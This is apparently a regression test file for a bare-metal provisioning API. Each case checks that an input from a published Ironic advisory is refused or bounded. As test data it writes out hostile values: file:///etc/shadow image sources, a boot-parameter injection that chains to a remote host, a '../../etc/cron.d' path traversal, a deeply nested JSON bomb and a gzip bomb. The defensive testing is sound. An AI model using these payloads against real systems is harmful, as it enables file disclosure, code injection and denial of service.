/**
 * One case for each security note of Ironic of 2025 and 2026 that concerns an interface which Temper has too: what it
 * opened there is refused, hidden, masked or bounded here. reports/security.md has the table.
 */

import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { vendorMethodsOf } from '../../src/model/lifecycle/vendor-methods';
import { addWorker, faultOf, startTestApi, type TestApi } from '../support/api';
import { image, worldOf } from '../support/rule-world';
import { lessee, owner, type Persona, stranger } from '../support/world';

let api: TestApi;
beforeAll(async () => {
  api = await startTestApi();
  await addWorker(api.sql);
});
afterAll(() => api?.close());

const sourceFiles = (): string[] => {
  const root = join(__dirname, '../../src');
  return readdirSync(root, { recursive: true })
    .map((name) => join(root, String(name)))
    .filter((name) => name.endsWith('.ts'));
};

type Columns = Readonly<Record<string, unknown>>;
type Sent = { readonly who: Persona; readonly ask: string; readonly body?: unknown; readonly node?: Columns };

/** Sends a request about an object of a world of its own, in which braces name what is made for it. */
const send = async ({ who, ask, body, node = {} }: Sent) => {
  const fill = worldOf(api, node);
  const [method, path] = (await fill(ask)).split(' ') as [string, string];
  const reply = await api.as(who, method, path, { body: await fill(body) });
  return { reply, fill, path };
};

const provision = 'PUT /v1/nodes/{node}/states/provision';
const available = { provision_state: 'available' };
const manageable = { provision_state: 'manageable' };
const put = (path: string, value: unknown) => [{ op: 'add', path, value }];
const replace = (path: string, value: unknown) => [{ op: 'replace', path, value }];
const started = () => api.runs.started.length;

describe('CVE-2025-44021, OSSA-2025-001; CVE-2026-44919, OSSA-2026-013: an image is never a local file', () => {
  test.each([
    'file:///etc/shadow',
    'file:///dev/zero',
    '/etc/shadow',
    'FILE:///dev/zero',
    'ftp://images.example.org/a',
  ])('%s is refused before a run begins', async (image_source) => {
    const before = started();
    const instance_info = { ...image, image_source };
    const { reply } = await send({
      who: 'owner-member',
      ask: provision,
      body: { target: 'active' },
      node: { ...available, instance_info },
    });
    expect([reply.status, faultOf(reply)]).toEqual([400, expect.stringContaining('must be an http or https URL')]);
    expect(started()).toBe(before);
  });

  test.each(['kernel', 'ramdisk', 'boot_iso'])('nor is instance_info %s for a tenant to choose', async (key) => {
    const body = put(`/instance_info/${key}`, 'file:///dev/zero');
    for (const who of ['owner-manager', 'lessee-manager'] as const)
      expect((await send({ who, ask: 'PATCH /v1/nodes/{node}', body })).reply.status).toBe(403);
  });
});

describe('CVE-2026-42510, OSSA-2026-008: a console starts no program on the service', () => {
  test('a node without a console starts none, whatever its driver_info says', async () => {
    for (const driver of ['ipmi', 'redfish']) {
      const driver_info = { ipmi_address: '192.0.2.7', redfish_address: 'https://192.0.2.7', ipmi_terminal_port: 623 };
      const node = { driver, driver_info, console_interface: 'no-console' };
      const { reply } = await send({
        who: 'operator',
        ask: 'PUT /v1/nodes/{node}/states/console',
        body: { enabled: true },
        node,
      });
      expect([driver, reply.status]).toEqual([driver, 400]);
    }
  });
});

describe('CVE-2026-42997: no step sends the service’s own credentials elsewhere', () => {
  test.each(['import_configuration', 'export_configuration', 'import_export_configuration'])(
    'management.%s is no step',
    async (step) => {
      const clean_steps = [
        { interface: 'management', step, args: { import_configuration_location: 'https://192.0.2.9/a.json' } },
      ];
      const { reply } = await send({
        who: 'operator',
        ask: provision,
        body: { target: 'clean', clean_steps },
        node: manageable,
      });
      expect([reply.status, faultOf(reply)]).toEqual([400, expect.stringContaining(`management.${step}`)]);
    },
  );
});

describe('CVE-2026-44917; CVE-2026-46447, OSSA-2026-017: what boots a node is not for tenants to write', () => {
  test.each([
    ['driver_info', 'kernel_append_params', 'quiet\nchain http://192.0.2.9/x'],
    ['instance_info', 'kernel_append_params', 'quiet\nchain http://192.0.2.9/x'],
    ['driver_info', 'deploy_kernel', 'http://192.0.2.9/x\nboot'],
    ['driver_info', 'external_http_url', 'http://192.0.2.9'],
    ['driver_info', 'agent_erase_devices_zeroize', false],
    ['driver_info', 'disk_erasure_concurrency', 0],
    ['driver_info', 'image_http_proxy', 'http://192.0.2.9'],
  ])('%s %s is 403 for owner and lessee', async (field, key, value) => {
    for (const who of ['owner-manager', 'lessee-manager'] as const)
      expect(
        (await send({ who, ask: 'PATCH /v1/nodes/{node}', body: put(`/${field}/${key}`, value) })).reply.status,
      ).toBe(403);
  });

  test('pxe_template is a note like any other: no code reads it', () => {
    const readers = sourceFiles().filter((file) => readFileSync(file, 'utf8').includes('pxe_template'));
    expect(readers).toEqual([]);
  });
});

describe('CVE-2026-44918, OSSA-2026-026: nothing is carried from one project’s node to another’s', () => {
  const foreign = async (): Promise<string> => {
    const [row] = await api.sql<{ uuid: string }[]>`
      insert into nodes (name, driver, provision_state, owner) values (${`f-${Math.random()}`}, 'redfish', 'manageable', ${stranger}) returning uuid`;
    return row!.uuid;
  };

  test.each([
    ['connector', '/v1/volume/connectors'],
    ['target', '/v1/volume/targets'],
    ['port', '/v1/ports'],
    ['portgroup', '/v1/portgroups'],
  ])('a %s stays with nodes of the same owner', async (what, path) => {
    const to = await foreign();
    const node = { ...manageable, power_state: 'power off' };
    for (const who of ['owner-manager', 'lessee-manager', 'operator'] as const) {
      const { reply, fill } = await send({
        who,
        ask: `PATCH ${path}/{${what}}`,
        body: replace('/node_uuid', to),
        node,
      });
      expect([who, [400, 403].includes(reply.status)]).toEqual([who, true]);
      const { body } = await api.as('operator', 'GET', String(await fill(`${path}/{${what}}`)));
      expect(body.node_uuid).toBe(await fill('{node}'));
    }
  });

  test.each(['owner-manager', 'lessee-manager', 'operator'] as const)(
    '%s makes no node of one project the child of another’s',
    async (who) => {
      const { reply } = await send({ who, ask: 'PATCH /v1/nodes/{node}', body: put('/parent_node', await foreign()) });
      expect([400, 403]).toContain(reply.status);
    },
  );
});

describe('CVE-2026-48681, OSSA-2026-018: no archive that a tenant names is unpacked on the service', () => {
  test('documents of a config drive have fixed file names; a name of another kind is refused', async () => {
    const configdrive = { meta_data: { name: 'a' }, '../../etc/cron.d/x': 'root' };
    const body = { target: 'active', configdrive };
    const { reply } = await send({ who: 'owner-member', ask: provision, body, node: available });
    expect(reply.status).toBe(400);
  });
});

describe('CVE-2026-50589, OSSN-0099: deep JSON ends no process', () => {
  const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
  test.each([
    ['a caller', 'operator', 'POST', '/v1/nodes'],
    ['no login', null, 'POST', '/v1/heartbeat/a0b94891-e49e-4ac5-89bf-f6a9c9cc3ff2'],
    ['no login, at the largest body', null, 'POST', '/v1/continue_inspection'],
  ] as const)('from %s', async (_, who, method, path) => {
    const reply = await api.as(who, method, path, { raw: deep, headers: { 'content-type': 'application/json' } });
    expect(reply.status).toBeGreaterThanOrEqual(400);
    expect(reply.status).toBeLessThan(500);
    expect((await api.as('operator', 'GET', '/v1/nodes?limit=1')).status).toBe(200);
  });
});

describe('CVE-2026-54423, OSSA-2026-025: raw commands to a BMC go through no list of steps', () => {
  const raw = { interface: 'vendor', step: 'send_raw', args: { raw_bytes: '0x00 0x01' } };
  const node = { driver: 'ipmi', driver_info: { ipmi_address: '192.0.2.7' } };
  test.each([
    ['clean_steps', { target: 'clean', clean_steps: [raw] }, manageable],
    ['service_steps', { target: 'service', service_steps: [raw] }, { provision_state: 'active' }],
    ['deploy_steps', { target: 'active', deploy_steps: [{ ...raw, priority: 50 }] }, available],
  ])('%s', async (_, body, state) => {
    for (const who of ['operator', 'owner-manager', 'lessee-manager'] as const) {
      const before = started();
      const { reply } = await send({ who, ask: provision, body, node: { ...node, ...state } });
      expect([400, 403]).toContain(reply.status);
      expect(started()).toBe(before);
    }
  });
  test.each([
    ['a runbook', 'POST /v1/runbooks', { name: 'CUSTOM_RAW', steps: [{ ...raw, order: 1 }] }],
    ['a deploy template', 'POST /v1/deploy_templates', { name: 'CUSTOM_RAW', steps: [{ ...raw, priority: 50 }] }],
  ])('%s', async (_, ask, body) => {
    for (const who of ['operator', 'owner-manager', 'lessee-manager'] as const)
      expect([400, 403]).toContain((await send({ who, ask, body })).reply.status);
  });
});

describe('CVE-2026-71201, OSSA-2026-033, and the same of ports: a shard lists no hidden node’s rows', () => {
  test.each(['ports', 'portgroups'])('%s by shard', async (path) => {
    const shard = `shard-${path}`;
    const fill = worldOf(api, { shard, owner, lessee: null });
    const uuid = await fill(path === 'ports' ? '{port}' : '{portgroup}');
    const listed = async (who: Persona) => {
      const reply = await api.as(who, 'GET', `/v1/${path}?shard=${shard}`);
      return reply.status === 200 ? reply.body[path].map((row: { uuid: string }) => row.uuid) : [];
    };
    expect(await listed('operator')).toEqual([uuid]);
    expect(await listed('owner-reader')).toEqual([uuid]);
    expect(await listed('lessee-manager')).toEqual([]);
    expect(await listed('stranger-admin')).toEqual([]);
  });
});

describe('CVE-2026-90458: a vendor call is one of a list, not any request to the BMC', () => {
  test('what is offered deletes and reads event subscriptions and nothing else', () => {
    const offered = Object.entries(vendorMethodsOf({ driver: 'redfish', vendor_interface: 'redfish' } as never) ?? {});
    const names = offered.flatMap(([name, row]) => row.http_methods.map((method) => `${method} ${name}`));
    expect(names.sort()).toEqual([
      'DELETE delete_subscription',
      'GET get_all_subscriptions',
      'GET get_subscription',
      'POST create_subscription',
      'POST eject_vmedia',
    ]);
  });
  // That an id of a caller never becomes part of a path: test/bmc/redfish-subscriptions.test.ts.
});

describe('CVE-2026-115638: a config drive that unpacks to gigabytes is unpacked by the node alone', () => {
  test('the service passes on what it was given, and bounds that', async () => {
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024)).toString('base64');
    const before = process.memoryUsage().rss;
    const { reply } = await send({
      who: 'owner-member',
      ask: provision,
      body: { target: 'active', configdrive: bomb },
      node: available,
    });
    expect(reply.status).toBe(202);
    expect(api.runs.started.at(-1)!.instance_info).toMatchObject({ configdrive: bomb });
    // 64 MiB of zeros would be seen.
    expect(process.memoryUsage().rss - before).toBeLessThan(48 * 1024 * 1024);
    const large = 'A'.repeat(2 * 1024 * 1024);
    const refused = await send({
      who: 'owner-member',
      ask: provision,
      body: { target: 'active', configdrive: large },
      node: available,
    });
    expect(refused.reply.status).toBe(413);
  });
});

describe('a volume target’s password', () => {
  test('stands in no answer: create, show, list, patch', async () => {
    const secret = 'correct-horse-9';
    const fill = worldOf(api, { ...manageable });
    const node_uuid = await fill('{node}');
    const properties = { auth_username: 'u', auth_password: secret, target_lun: 1 };
    const made = await api.as('operator', 'POST', '/v1/volume/targets', {
      body: { node_uuid, volume_type: 'iscsi', volume_id: 'v-1', boot_index: 5, properties },
    });
    expect(made.status).toBe(201);
    const path = `/v1/volume/targets/${made.body.uuid}`;
    const shown = await api.as('operator', 'GET', path);
    const listed = await api.as('operator', 'GET', '/v1/volume/targets?detail=True');
    const patched = await api.as('operator', 'PATCH', path, {
      body: replace('/properties/auth_password', `${secret}-new`),
    });
    expect(patched.status).toBe(200);
    for (const reply of [made, shown, listed, patched]) expect(reply.text).not.toContain(secret);
    expect(patched.body.properties.auth_password).toBe('******');
  });
});

test('every project of these cases is another', () => expect(new Set([owner, lessee, stranger]).size).toBe(3));
